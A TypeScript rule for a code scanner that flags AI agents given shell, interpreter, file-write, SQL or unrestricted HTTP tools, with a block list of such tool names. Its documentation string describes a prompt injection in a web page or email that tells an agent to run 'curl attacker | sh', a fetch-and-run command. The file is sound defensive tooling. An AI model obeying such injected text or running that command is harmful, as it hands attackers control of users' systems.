import {
  analyzeTaint,
  anyOf,
  defineRule,
  flowRelated,
  javascriptSemantics,
  keywordArgument,
  objectProperty,
  pythonSemantics,
  pythonStringValue,
  taintWords,
  type Node,
  type TaintQuery,
} from '../../server/src/engine/api';

/** LangChain tools and agents that hand the model a Python interpreter, a shell or write access. */
const DANGEROUS_TOOLS = new Map<string, string>([
  ['PythonREPLTool', 'a Python interpreter'],
  ['PythonAstREPLTool', 'a Python interpreter'],
  ['PythonREPL', 'a Python interpreter'],
  ['ShellTool', 'a shell'],
  ['BashProcess', 'a shell'],
  ['TerminalTool', 'a shell'],
  ['create_python_agent', 'a Python interpreter'],
  ['WriteFileTool', 'file writes'],
  ['DeleteFileTool', 'file deletion'],
  ['MoveFileTool', 'file moves'],
  ['QuerySQLDataBaseTool', 'arbitrary SQL'],
  ['QuerySQLDatabaseTool', 'arbitrary SQL'],
  ['SQLDatabaseToolkit', 'arbitrary SQL'],
  ['create_sql_agent', 'arbitrary SQL'],
]);
const DANGEROUS_LOAD_TOOLS = new Set(['terminal', 'python_repl', 'shell', 'bash', 'sleep_forever', 'requests_all', 'requests_post', 'requests_delete', 'requests_put']);
/**
 * Flags that hand the agent code execution or free HTTP. `allow_dangerous_deserialization` (FAISS `load_local`) is left to
 * supply-chain/unsafe-deserialization-opt-in: it is a pickle load, not an agent capability, and one literal deserves one finding.
 */
const DANGEROUS_FLAGS = ['allow_dangerous_code', 'allow_dangerous_requests'];
const JS_DANGEROUS_FLAGS = ['allowDangerousCode', 'allowDangerousRequests'];
const LOAD_TOOLS = 'load_tools';
const FILE_TOOLKIT = 'FileManagementToolkit';
/** Tool handlers whose model-chosen arguments reach eval or a shell. */
const QUERY: TaintQuery = { sources: ['tool-args'], sinks: ['code-exec', 'shell'] };

/** Agents that can do anything do whatever the last injected prompt asked. */
export default defineRule({
  meta: {
    id: 'model-input/excessive-agency',
    category: 'model-input',
    title: 'Agent can execute code, run commands or write without limits',
    severity: 'warning',
    languages: ['python', 'javascript'],
    // The flows, or one of the names the direct checks look for (each is written where it is used or imported).
    requiresAll: () => anyOf(taintWords(QUERY), [[...DANGEROUS_TOOLS.keys(), LOAD_TOOLS, FILE_TOOLKIT, ...DANGEROUS_FLAGS, ...JS_DANGEROUS_FLAGS]]),
    wordsFollowTaintSpec: true,
    docs: {
      summary:
        'Finds agents given a Python REPL, a shell (`PythonREPLTool`, `ShellTool`, `load_tools(["terminal"])`, `create_python_agent`), ' +
        'file-write or SQL tools, `allow_dangerous_code=True`/`allow_dangerous_requests=True`, and tool handlers (`@tool`, ' +
        'Vercel AI `tool({ execute })`, OpenAI/Anthropic tool calls) that pass the model\'s arguments to eval or a shell without an allowlist.',
      why:
        'An agent acts on text it reads. One poisoned web page, email or document in its context can instruct it to run ' +
        '`curl attacker | sh`; the only defence is not giving it that power, or checking each action against an allowlist ' +
        'or a human confirmation (OWASP LLM06 excessive agency).',
      bad: 'from langchain_experimental.tools import PythonREPLTool\nagent = initialize_agent([PythonREPLTool()], llm)\n',
      good: 'agent = initialize_agent([calculator_tool, search_tool], llm)  # narrow tools, no code execution\n',
      fix: 'No automatic fix: replace general tools with narrow ones, run code in a sandbox without network and secrets, or require confirmation.',
      references: { owaspLlm: ['LLM06', 'LLM05'], cwe: [250, 77, 94] },
    },
  },
  create(context) {
    if (context.family !== 'python' && context.family !== 'javascript') return;
    for (const flow of analyzeTaint(context, QUERY)) {
      context.report({
        node: flow.argument,
        message: `A tool argument chosen by the model reaches \`${flow.sinkName}\` with no allowlist or confirmation: a prompt injection can ${flow.sinkKind === 'shell' ? 'run any command' : 'run any code'}.`,
        related: flowRelated(context, flow),
      });
    }
    if (context.family === 'javascript') {
      const semantics = javascriptSemantics(context);
      return {
        call_expression(node: Node) {
          const callee = semantics.calleeName(node) ?? node.childForFieldName('function')?.text ?? '';
          const options = node.childForFieldName('arguments')?.namedChildren.find((a) => a?.type === 'object');
          for (const flag of JS_DANGEROUS_FLAGS) {
            const property = objectProperty(options, flag);
            if (property?.childForFieldName('value')?.text === 'true') {
              context.report({ node: property, message: `\`${flag}: true\` in \`${callee}\` lets the agent run what the model writes.` });
            }
          }
        },
      };
    }
    const semantics = pythonSemantics(context);
    return {
      call(node: Node) {
        const callee = node.childForFieldName('function');
        const qualified = semantics.qualifiedName(callee) ?? callee?.text ?? '';
        const name = qualified.split('.').pop() ?? '';
        const power = DANGEROUS_TOOLS.get(name);
        if (power && callee) {
          context.report({ node: callee, message: `\`${name}\` gives the agent ${power}: a prompt injection in anything it reads can use it.` });
        }
        if (name === LOAD_TOOLS) {
          const list = node.childForFieldName('arguments')?.namedChildren[0];
          for (const item of list?.type === 'list' ? list.namedChildren : []) {
            const tool = pythonStringValue(item);
            if (item && tool && DANGEROUS_LOAD_TOOLS.has(tool)) {
              context.report({ node: item, message: `load_tools("${tool}") gives the agent ${tool.startsWith('requests') ? 'unrestricted HTTP requests' : 'a shell or interpreter'}.` });
            }
          }
        }
        if (name === FILE_TOOLKIT && !keywordArgument(node, 'selected_tools') && callee) {
          context.report({ node: callee, message: 'FileManagementToolkit without `selected_tools` gives the agent write, move and delete access to files.' });
        }
        for (const flag of DANGEROUS_FLAGS) {
          const argument = keywordArgument(node, flag);
          if (argument?.childForFieldName('value')?.text === 'True') {
            context.report({ node: argument, message: `\`${flag}=True\` in \`${name}\` lets the agent run or fetch what the model decides.` });
          }
        }
      },
    };
  },
});
